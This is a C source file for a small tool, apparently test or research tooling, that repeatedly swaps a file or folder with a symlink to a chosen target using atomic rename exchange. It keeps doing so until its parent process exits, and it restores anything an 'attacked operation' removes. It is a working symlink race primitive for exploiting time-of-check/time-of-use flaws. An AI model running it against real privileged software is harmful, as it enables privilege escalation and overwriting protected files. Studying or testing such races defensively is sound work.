// Exchanges two names in one step each time, as fast as it can, until its parent has gone. One name is a file or folder
// and the other a link to TARGET; whatever an attacked operation removes or replaces is put back. Without TARGET the names
// are exchanged and nothing is put back.
// flip NAME OTHER [TARGET] (flip.py does the same where there is no compiler)
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <libgen.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

enum { gone, link_, own };

static const char *target;
static char spare[4096];
static struct stat home;
static int makes_folders;

static int kind(const char *name) {
    struct stat found;
    if (lstat(name, &found) != 0) return gone;
    return S_ISLNK(found.st_mode) ? link_ : own;
}

static int settle(const char *name) {
    if (lchown(spare, home.st_uid, home.st_gid) == 0 && rename(spare, name) == 0) return 0;
    return remove(spare);
}

static int make_link(const char *name) {
    return symlink(target, spare) != 0 ? -1 : settle(name);
}

static int make_own(const char *name) {
    if (makes_folders) return mkdir(spare, 0755) != 0 ? -1 : settle(name);
    int file = open(spare, O_CREAT | O_EXCL | O_WRONLY, 0644);
    if (file < 0 || write(file, "inside", 6) != 6 || close(file) != 0) return -1;
    return settle(name);
}

static void put_back(const char *name, const char *other) {
    static int junk;
    char aside[4200];
    int one = kind(name), two = kind(other);
    if (one == gone) {
        if (two == own) make_link(name);
        else make_own(name);
    } else if (two == gone || two == one) {
        snprintf(aside, sizeof aside, "%s.%d", spare, junk);
        if (two == one && rename(other, aside) == 0) junk++;
        if (one == own) make_link(other);
        else make_own(other);
    }
}

static int exchange(const char *name, const char *other) {
    return renameat2(AT_FDCWD, name, AT_FDCWD, other, RENAME_EXCHANGE);
}

int main(int count, char **words) {
    if (count < 3) return 2;
    const char *name = words[1], *other = words[2];
    struct stat found;
    target = count > 3 ? words[3] : NULL;
    snprintf(spare, sizeof spare, "%s", name);
    if (stat(dirname(spare), &home) != 0 || lstat(name, &found) != 0 || exchange(name, other) != 0) {
        fprintf(stderr, "%s\n", strerror(errno));
        return 1;
    }
    makes_folders = S_ISDIR(found.st_mode);
    snprintf(spare, sizeof spare, "%s-spare", name);
    puts("flipping");
    fflush(stdout);
    for (pid_t parent = getppid(); getppid() == parent;) {
        for (int turn = 0; turn < 64; turn++) exchange(name, other);
        if (target != NULL) put_back(name, other);
    }
    return 0;
}
